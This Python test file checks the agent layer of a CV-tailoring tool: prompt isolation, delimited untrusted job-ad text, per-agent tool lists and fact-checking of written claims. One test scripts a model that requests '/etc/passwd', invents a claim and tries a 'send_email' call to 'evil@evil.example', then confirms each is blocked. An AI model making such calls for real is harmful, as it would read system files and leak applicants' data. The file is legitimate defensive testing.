"""What each agent says to a model: instructions of ours, data of others between marks, and its tools."""

import json

import pytest
from cvtailor.adapters.agents.instructions import prompt_of
from cvtailor.adapters.agents.model_agents import ModelAgents
from cvtailor.adapters.embedded_engine import skill_names
from cvtailor.domain.application import TailoringOptions, Tone
from cvtailor.domain.base_cv import CvFormat
from cvtailor.domain.desk import Desk
from cvtailor.domain.drafts import Plan, Remark, RemarkCode, WrittenClaim
from cvtailor.domain.model_calls import AgentName

from tests.adapters.agents.model_talk import Recorder, runtime_for
from tests.model_servers import Asked, ModelServer, Says, UsesTools, honest_model, in_turn
from tests.scripted_agents import EXAMPLES, TAILOR, read_example

LINE = "experience[0].highlights[0]"


async def a_desk() -> Desk:
    cv, offer, report = await read_example("engineer", "cv.yaml", CvFormat.RENDERCV_YAML)
    draft = (await TAILOR.tailor(cv, offer, report, TailoringOptions())).cv
    return Desk(cv, offer, report, draft, skill_names, tone=Tone.WARM)


async def everything_asked() -> dict[AgentName, Asked]:
    """Returns the first request of each agent."""
    desk = await a_desk()
    written = (WrittenClaim(claim_id=LINE, text="Own the API"),)
    remarks = (Remark(claim_id=LINE, code=RemarkCode.INFLATED),)
    with ModelServer(honest_model()) as server:
        async with runtime_for(server) as runtime:
            agents, calls = ModelAgents(runtime), Recorder()
            await agents.read_offer((EXAMPLES / "engineer" / "job.txt").read_text(), calls)
            await agents.read_cv((EXAMPLES / "graduate" / "cv.txt").read_text(), calls)
            await agents.plan(desk, calls)
            await agents.write(desk, Plan(), remarks, calls)
            await agents.review(desk, written, calls)
            await agents.write_letter(desk, remarks, calls)
    return {asked.agent: asked for asked in server.asked if asked.agent}


@pytest.fixture(scope="module")
async def asked() -> dict[AgentName, Asked]:
    return await everything_asked()


async def test_the_instruction_holds_nothing_of_the_run(asked: dict[AgentName, Asked]) -> None:
    assert set(asked) == set(AgentName)
    for agent, one in asked.items():
        assert one.system == prompt_of(agent).text


async def test_data_stands_between_marks(asked: dict[AgentName, Asked]) -> None:
    opening, *_, closing = asked[AgentName.OFFER_READER].message.splitlines()
    key = opening.removeprefix("<<<job ad ")
    assert len(key) == 16
    assert closing == f"{key} job ad>>>"


async def test_no_agent_but_the_reader_sees_a_fact_of_the_cv(asked: dict[AgentName, Asked]) -> None:
    told = json.dumps(
        [asked[agent].body for agent in set(AgentName) - {AgentName.CV_READER, AgentName.OFFER_READER}]
    )
    for fact in ("Lena Morawski", "900 ms", "220 requests", "@"):
        assert fact not in told


async def test_each_agent_has_its_tools_and_no_others(asked: dict[AgentName, Asked]) -> None:
    assert {agent: one.tools for agent, one in asked.items() if one.tools} == {
        AgentName.PLANNER: ("lookup_evidence", "coverage"),
        AgentName.WRITER: ("lookup_evidence", "check_claims"),
        AgentName.LETTER_WRITER: ("lookup_evidence",),
    }


async def test_remarks_are_codes_and_only_their_lines_are_given(asked: dict[AgentName, Asked]) -> None:
    message = asked[AgentName.WRITER].message
    assert f"{LINE} inflated" in message
    assert "experience[0].highlights[1]: " not in message
    assert "Tone: warm" in asked[AgentName.LETTER_WRITER].message


async def test_tools_answer_from_the_desk() -> None:
    lie = {"claim_id": LINE, "evidence_ids": [LINE], "text": "Led 400 people"}
    uses = UsesTools(
        (
            ("lookup_evidence", {"ids": [LINE, "contact.email", "/etc/passwd"]}),
            ("check_claims", {"claims": [lie]}),
            ("send_email", {"to": "evil@evil.example"}),
        )
    )
    with ModelServer(in_turn(uses, then=honest_model())) as server:
        async with runtime_for(server) as runtime:
            await ModelAgents(runtime).write(await a_desk(), Plan(), (), Recorder())
    looked_up, checked, refused = server.asked[1].tool_results
    assert list(json.loads(looked_up)) == [LINE]
    assert json.loads(checked) == [{"claim_id": LINE, "code": "number_typed"}]
    assert "send_email" in refused or "unknown" in refused.lower()


async def test_coverage_is_a_tool_of_the_planner() -> None:
    uses = UsesTools((("coverage", {"ids": ["made.up"]}),))
    with ModelServer(in_turn(uses, then=honest_model())) as server:
        async with runtime_for(server) as runtime:
            await ModelAgents(runtime).plan(await a_desk(), Recorder())
    assert json.loads(server.asked[1].tool_results[0])["must"] == 0.0


async def test_prompts_have_versions_that_change_with_their_text() -> None:
    versions = {agent: prompt_of(agent).version for agent in AgentName}
    assert len(set(versions.values())) == len(AgentName)
    assert all(len(version) == 12 for version in versions.values())


async def test_a_reader_returns_what_the_model_quotes() -> None:
    answer = Says({"name": "Ada Byron", "sections": []})
    with ModelServer(lambda _: answer) as server:
        async with runtime_for(server) as runtime:
            draft = await ModelAgents(runtime).read_cv("Ada Byron", Recorder())
    assert draft.name == "Ada Byron"
